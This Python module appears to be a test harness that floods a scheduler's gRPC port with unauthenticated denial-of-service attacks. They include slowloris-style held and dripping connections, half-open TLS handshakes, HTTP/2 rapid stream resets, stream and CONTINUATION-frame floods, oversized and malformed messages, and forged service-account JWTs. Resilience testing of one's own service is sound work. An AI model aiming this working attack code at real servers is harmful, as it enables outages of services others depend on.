"""Attacks on the scheduler's gRPC port, by clients that have no valid token. Each runs until `stop` is set, and
meanwhile replaces every connection that the scheduler closes."""

import base64
import contextlib
import json
import os
import random
import socket
import ssl
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import grpc

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
REPORT = "/lockstep.v1.Fleet/Report"


@dataclass(frozen=True, slots=True)
class Target:
    address: str
    ca: bytes

    def connect(self) -> socket.socket:
        host, _, port = self.address.rpartition(":")
        return socket.create_connection((host, int(port)), timeout=5)

    def connect_tls(self) -> ssl.SSLSocket:
        context = ssl.create_default_context(cadata=self.ca.decode())
        context.set_alpn_protocols(["h2"])
        plain = self.connect()
        try:
            return context.wrap_socket(plain, server_hostname="localhost")
        except OSError:
            plain.close()
            raise

    @contextlib.contextmanager
    def channel(self) -> Iterator[grpc.Channel]:
        options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1)]
        credentials = grpc.ssl_channel_credentials(self.ca)
        with grpc.secure_channel(self.address, credentials, options) as channel:
            yield channel


Attack = Callable[[Target, threading.Event], None]


def _kept(target: Target, stop: threading.Event, number: int, first: bytes, drip: bytes) -> None:
    """Keeps the number of connections open, each after its first bytes. With drip, sends one byte on each every half
    second."""
    held: list[socket.socket] = []
    sent = 0
    while not stop.is_set():
        held = [each for each in held if _alive(each)]
        with contextlib.suppress(OSError):
            while len(held) < number and not stop.is_set():
                held.append(target.connect())
                if first:
                    held[-1].sendall(first)
        for each in held if drip else ():
            with contextlib.suppress(OSError):
                each.sendall(drip[sent % len(drip) :][:1])
        sent += 1
        stop.wait(0.5)
    for each in held:
        each.close()


def _alive(each: socket.socket) -> bool:
    """Closes it if it is not."""
    each.settimeout(0)
    with contextlib.suppress(OSError):
        try:
            if each.recv(1 << 16):
                return True
        except BlockingIOError:
            each.settimeout(5)
            return True
    each.close()
    return False


def _hello(target: Target) -> bytes:
    """A ClientHello."""
    outgoing = ssl.MemoryBIO()
    context = ssl.create_default_context(cadata=target.ca.decode())
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost").do_handshake()
    return outgoing.read()


def idle(target: Target, stop: threading.Event) -> None:
    _kept(target, stop, 200, b"", b"")


def half_open(target: Target, stop: threading.Event) -> None:
    """Half a TLS handshake."""
    _kept(target, stop, 100, _hello(target), b"")


def dripping(target: Target, stop: threading.Event) -> None:
    """A TLS handshake byte by byte."""
    hello = _hello(target)
    _kept(target, stop, 100, hello[:5], hello[5:])


def not_tls(target: Target, stop: threading.Event) -> None:
    while not stop.is_set():
        with contextlib.suppress(OSError), target.connect() as each:
            each.sendall(random.choice([b"GET / HTTP/1.1\r\n\r\n", os.urandom(5000)]))
            each.settimeout(0.05)
            each.recv(100)


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
    )


def headers(**more: str) -> bytes:
    """Encodes the headers of a call, in HPACK without compression."""
    fields = {
        ":method": "POST",
        ":scheme": "https",
        ":path": REPORT,
        ":authority": "localhost",
        "te": "trailers",
        "content-type": "application/grpc",
        **more,
    }
    return b"".join(
        b"\x00" + bytes((len(key),)) + key.encode() + bytes((len(value),)) + value.encode()
        for key, value in fields.items()
    )


def slow_writer(target: Target, stop: threading.Event) -> None:
    """Calls whose message never ends."""
    held: list[ssl.SSLSocket] = []
    while not stop.is_set():
        with contextlib.suppress(OSError):
            held.append(target.connect_tls())
            held[-1].sendall(PREFACE + frame(4, 0, 0, b"") + frame(1, 4, 1, headers()))
            held[-1].sendall(frame(0, 0, 1, b"\0\0\0\x0f\xff"))
        for each in held[:-100]:
            each.close()
        held = held[-100:]
        for each in held:
            with contextlib.suppress(OSError):
                each.sendall(frame(0, 0, 1, b"x"))
        stop.wait(0.05)
    for each in held:
        each.close()


def resets(target: Target, stop: threading.Event) -> None:
    """Calls that are taken back at once, thousands on a connection."""
    calls = headers()
    while not stop.is_set():
        with contextlib.suppress(OSError), target.connect_tls() as each:
            each.sendall(PREFACE + frame(4, 0, 0, b""))
            for start in range(1, 20_001, 200):
                burst = [
                    frame(1, 4, stream, calls) + frame(3, 0, stream, b"\0\0\0\x08")
                    for stream in range(start, start + 200, 2)
                ]
                each.sendall(b"".join(burst))
                if stop.is_set():
                    return


def streams(target: Target, stop: threading.Event) -> None:
    """Thousands of calls at once on one connection, by a client that heeds no limit."""
    calls = headers()
    while not stop.is_set():
        with contextlib.suppress(OSError), target.connect_tls() as each:
            each.sendall(PREFACE + frame(4, 0, 0, b""))
            each.sendall(b"".join(frame(1, 4, stream, calls) for stream in range(1, 10_001, 2)))
            stop.wait(0.2)


def big_headers(target: Target, stop: threading.Event) -> None:
    """Header lists without an end."""
    while not stop.is_set():
        with contextlib.suppress(OSError), target.connect_tls() as each:
            each.sendall(PREFACE + frame(4, 0, 0, b"") + frame(1, 0, 1, headers()))
            for _ in range(1000):
                each.sendall(frame(9, 0, 1, b"\x00\x01a\x7f" + b"x" * 127))
            stop.wait(0.2)


def _calling(
    target: Target, stop: threading.Event, message: bytes, token: Callable[[], str]
) -> None:
    while not stop.is_set():
        with target.channel() as channel:
            call: Callable[..., bytes] = channel.unary_unary(REPORT)
            for _ in range(200):
                if stop.is_set():
                    return
                with contextlib.suppress(grpc.RpcError):
                    given = token()
                    metadata = (("authorization", f"Bearer {given}"),) if given else ()
                    call(message, metadata=metadata, timeout=5)


def _random_token() -> str:
    return base64.urlsafe_b64encode(os.urandom(600)).decode()


def _forged_token() -> str:
    """Returns a token with the claims of an agent and an invalid signature."""
    claims = {
        "iss": "https://kubernetes.default.svc.cluster.local",
        "sub": "system:serviceaccount:lockstep-system:lockstep-agent",
        "aud": ["lockstep-central"],
        "exp": int(time.time()) + 3600,
        "jti": os.urandom(8).hex(),
    }
    parts = (json.dumps(part).encode() for part in ({"alg": "RS256"}, claims))
    return ".".join(
        base64.urlsafe_b64encode(part).rstrip(b"=").decode() for part in (*parts, os.urandom(256))
    )


def random_tokens(target: Target, stop: threading.Event) -> None:
    _calling(target, stop, b"", _random_token)


def forged_tokens(target: Target, stop: threading.Event) -> None:
    _calling(target, stop, b"", _forged_token)


def malformed(target: Target, stop: threading.Event) -> None:
    """Messages that are no protobuf, without a token."""
    _calling(target, stop, b"\xff" * 1000, str)


def huge(target: Target, stop: threading.Event) -> None:
    _calling(target, stop, b"x" * (8 << 20), str)


ATTACKS: tuple[Attack, ...] = (
    idle,
    half_open,
    dripping,
    not_tls,
    slow_writer,
    resets,
    streams,
    big_headers,
    random_tokens,
    forged_tokens,
    malformed,
    huge,
)


@contextlib.contextmanager
def attacked(target: Target, *attacks: Attack, clients: int = 1) -> Iterator[None]:
    """Attacks the target with the number of clients for each attack."""
    stop = threading.Event()
    threads = [
        threading.Thread(target=attack, args=(target, stop), daemon=True)
        for attack in attacks
        for _ in range(clients)
    ]
    for thread in threads:
        thread.start()
    try:
        yield
    finally:
        stop.set()
        for thread in threads:
            thread.join(30)
